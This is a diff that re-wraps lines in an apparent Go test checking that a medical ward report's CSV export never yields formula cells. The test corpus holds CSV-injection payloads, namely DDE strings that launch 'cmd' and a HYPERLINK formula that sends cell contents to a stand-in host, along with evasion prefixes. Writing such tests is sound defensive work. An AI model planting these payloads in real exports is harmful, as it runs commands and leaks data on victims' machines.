@@ -12,8 +12,11 @@ const signs = "=+-@＝＋－＠−﹢﹣﹦﹫"
 
 // formulas is a corpus of texts that spreadsheets may run.
 func formulas() (out []string) {
-	payloads := []string{"1+1", "cmd|' /C calc'!A0", "HYPERLINK(\"http://x/?\"&A1,\"y\")", "SUM(1,2)", "IMPORTXML(CONCAT(\"http://x\"),\"//a\")", "DDE(\"cmd\";\"/C calc\";\"x\")", "A1", ""}
-	fronts := []string{"", " ", "\t", "\r", "\n", "\r\n", "\x00", "\u00a0", "\u200b", "\ufeff", "\u202e", "\u3164", "\u2028", "\"", "\"\"", "'", ";", ",", "|", "x;", "x,", "x\t", "x\n", "x\",\"", "x\";\"", "x;\"", "x; ", "x|", "x，", "'\";", "\\", "x\r\n"}
+	payloads := []string{"1+1", "cmd|' /C calc'!A0", "HYPERLINK(\"http://x/?\"&A1,\"y\")", "SUM(1,2)",
+		"IMPORTXML(CONCAT(\"http://x\"),\"//a\")", "DDE(\"cmd\";\"/C calc\";\"x\")", "A1", ""}
+	fronts := []string{"", " ", "\t", "\r", "\n", "\r\n", "\x00", "\u00a0", "\u200b", "\ufeff", "\u202e", "\u3164",
+		"\u2028", "\"", "\"\"", "'", ";", ",", "|", "x;", "x,", "x\t", "x\n", "x\",\"", "x\";\"", "x;\"", "x; ", "x|",
+		"x，", "'\";", "\\", "x\r\n"}
 	for _, f := range fronts {
 		for _, s := range signs {
 			for _, p := range payloads {
@@ -27,7 +30,8 @@ func formulas() (out []string) {
 // fields are the cells that a reader could make of a line, whatever it takes for
 // a separator and a quote, each without what it may drop in front.
 func fields(line string) (out []string) {
-	for _, part := range strings.FieldsFunc(line, func(r rune) bool { return strings.ContainsRune(",;|\t\r\n，；\"", r) }) {
+	for _, part := range strings.FieldsFunc(line,
+		func(r rune) bool { return strings.ContainsRune(",;|\t\r\n，；\"", r) }) {
 		out = append(out, strings.TrimLeftFunc(part, func(r rune) bool {
 			return unicode.In(r, unicode.C, unicode.Z) || unicode.Is(unicode.Other_Default_Ignorable_Code_Point, r)
 		}))
@@ -41,7 +45,8 @@ func fields(line string) (out []string) {
 func TestNoCellIsAFormula(t *testing.T) {
 	corpus, effects := formulas(), 0
 	for _, text := range corpus {
-		r := Report{Ward: text, Since: time.Unix(0, 0), Until: time.Unix(7200, 0), Sources: []Named{{Name: text}}, Patients: []Named{{Name: text}}}
+		r := Report{Ward: text, Since: time.Unix(0, 0), Until: time.Unix(7200, 0), Sources: []Named{{Name: text}},
+			Patients: []Named{{Name: text}}}
 		var b strings.Builder
 		if err := r.CSV(&b); err != nil {
 			t.Fatal(err)
